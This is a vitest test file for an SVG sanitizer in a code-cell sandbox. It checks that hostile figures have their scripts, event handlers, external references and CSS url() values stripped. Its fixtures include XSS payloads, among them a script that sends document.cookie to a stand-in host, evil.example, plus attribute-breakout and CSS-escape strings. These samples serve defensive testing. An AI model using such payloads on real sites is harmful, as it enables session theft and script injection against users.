/**
 * The figure sanitizer (issue #27): an allow-list over the element tree a code cell returns.
 * Hostile SVG goes in two ways: returned as text from the sandbox (parsed there into a tree), or
 * as a tree built by hand (what a tampered sandbox could send).
 */
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import { runCode, type RunCodeResult } from '@/lib/sandbox/run-code';
import { ID_PREFIX, renderSvgTree, sanitizeSvgTree, svgToString, type SvgNode } from '@/lib/sandbox/svg-sanitize';

const HOSTILE = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50" onload="alert(1)">
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <image href="http://evil.example/pixel.png" width="1" height="1"/>
  <image xlink:href="https://evil.example/pixel2.png"/>
  <a href="https://evil.example/"><text x="1" y="1">click me</text></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml" onclick="alert(2)">html</div></foreignObject>
  <style>@import url(https://evil.example/x.css); rect { fill: url(https://evil.example/) }</style>
  <use href="https://evil.example/sprite.svg#icon"/>
  <use href="#ok"/>
  <set attributeName="href" to="javascript:alert(3)"/>
  <animate attributeName="onload" values="alert(4)"/>
  <rect id="ok" width="10" height="10" style="fill: url(https://evil.example/a); stroke: red; position: fixed" onclick="alert(5)" fill="url(http://evil.example/f)"/>
  <circle r="3" clip-path="url(#clip)" class="plot-x page-button"/>
  <text x="2" y="2" onmouseover="alert(6)">kept &lt;text&gt;</text>
</svg>`;

function figure(r: RunCodeResult) {
  if (r.kind !== 'figure') throw new Error(`expected a figure, got ${JSON.stringify(r).slice(0, 300)}`);
  return r;
}

describe('hostile SVG returned by code is cleaned', () => {
  it('removes script, foreignObject, image, a, style, set/animate, event handlers, external href and url()', async () => {
    const r = figure(await runCode({ code: `return ${JSON.stringify(HOSTILE)};`, inputs: {}, seed: 1 }));
    const svg = r.svg;
    expect(svg).not.toMatch(/<script|<foreignObject|<image|<a[\s>]|<style|<set|<animate|<div/i);
    expect(svg).not.toMatch(/\son\w+=/i);
    expect(svg).not.toMatch(/evil\.example|javascript:|@import/);
    expect(svg).not.toMatch(/url\((?!#)/);
    expect(svg).toContain(`<use href="#${ID_PREFIX}ok">`);
    expect(svg).toContain(`id="${ID_PREFIX}ok"`);
    expect(svg).toContain(`clip-path="url(#${ID_PREFIX}clip)"`);
    expect(svg).toContain('style="stroke: red"');
    expect(svg).toContain('class="plot-x"');
    expect(svg).toContain('kept &lt;text&gt;');
    expect(r.removed).toEqual(
      expect.arrayContaining(['<script> element', '<image> element', '<a> element', '<foreignObject> element', '<style> element', '<set> element', '<animate> element', 'onload attribute (event handler)', 'onclick attribute (event handler)', 'href other than a #id on <use>']),
    );
  });

  it('the same from a DOM built with the sandbox’s document', async () => {
    const code = `
      const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
      svg.setAttribute('onload', 'alert(1)');
      const s = document.createElementNS('http://www.w3.org/2000/svg', 'script');
      s.textContent = 'alert(2)';
      svg.appendChild(s);
      const img = document.createElementNS('http://www.w3.org/2000/svg', 'image');
      img.setAttribute('href', 'http://evil.example/x.png');
      svg.appendChild(img);
      const r = document.createElementNS('http://www.w3.org/2000/svg', 'rect');
      r.setAttribute('width', '5');
      r.setAttribute('style', 'fill: url("http://evil.example/")');
      svg.appendChild(r);
      return svg;`;
    const r = figure(await runCode({ code, inputs: {}, seed: 1 }));
    expect(r.svg).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect width="5"></rect></svg>');
  });
});

describe('sanitizeSvgTree over a hand-made tree', () => {
  const node = (t: string, a: Array<[string, string]> = [], c: Array<SvgNode | string> = []): SvgNode => ({ t, a, c });

  it('escapes text and attribute values when written', () => {
    const { tree, removed } = sanitizeSvgTree(node('svg', [['aria-label', '" onload="alert(1)'], ['role', '"><script>alert(3)</script>']], [node('text', [], ['</text><script>alert(2)</script>'])]));
    const svg = svgToString(tree);
    expect(svg).not.toContain('<script');
    expect(svg).toContain('&lt;/text&gt;&lt;script&gt;');
    expect(svg).toContain('aria-label="&quot; onload=&quot;alert(1)"');
    // A value holding markup is dropped altogether.
    expect(svg).not.toContain('role=');
    expect(removed).toEqual(['role attribute with url(), escapes or script']);
  });

  it('refuses a root that is not <svg> and malformed trees', () => {
    expect(() => sanitizeSvgTree(node('div'))).toThrow(/<svg>/);
    expect(() => sanitizeSvgTree('<svg/>')).toThrow(/<svg>/);
    const { tree, removed } = sanitizeSvgTree({ t: 'svg', a: [['width', 5], 'x'], c: [{ t: 'g' }, 42, node('g')] });
    expect(tree).toEqual(node('svg', [], [node('g')]));
    expect(removed).toEqual(['malformed attribute', 'malformed node']);
  });

  it('refuses javascript: and data: values, CSS escapes and expression()', () => {
    const { tree } = sanitizeSvgTree(node('svg', [], [node('rect', [['fill', 'javascript:alert(1)'], ['stroke', 'data:text/html,x'], ['style', 'fill: u\\72l(http://x); stroke: expression(alert(1)); opacity: 0.5']])]));
    expect(svgToString(tree)).toBe('<svg xmlns="http://www.w3.org/2000/svg"><rect style="opacity: 0.5"></rect></svg>');
  });

  it('limits depth', () => {
    let deep: SvgNode = node('g');
    for (let i = 0; i < 300; i++) deep = node('g', [], [deep]);
    expect(() => sanitizeSvgTree(node('svg', [], [deep]))).toThrow(/nested/);
  });

  it('renders with a document by createElementNS only (jsdom), sanitizing again', () => {
    const { window } = new JSDOM('<!doctype html><body></body>');
    const el = renderSvgTree(window.document as unknown as Document, node('svg', [['onload', 'alert(1)'], ['width', '10']], [node('script', [], ['alert(2)']), node('text', [], ['<b>hi</b>'])]));
    expect(el.outerHTML).toBe('<svg width="10"><text>&lt;b&gt;hi&lt;/b&gt;</text></svg>');
    expect(el.namespaceURI).toBe('http://www.w3.org/2000/svg');
  });
});
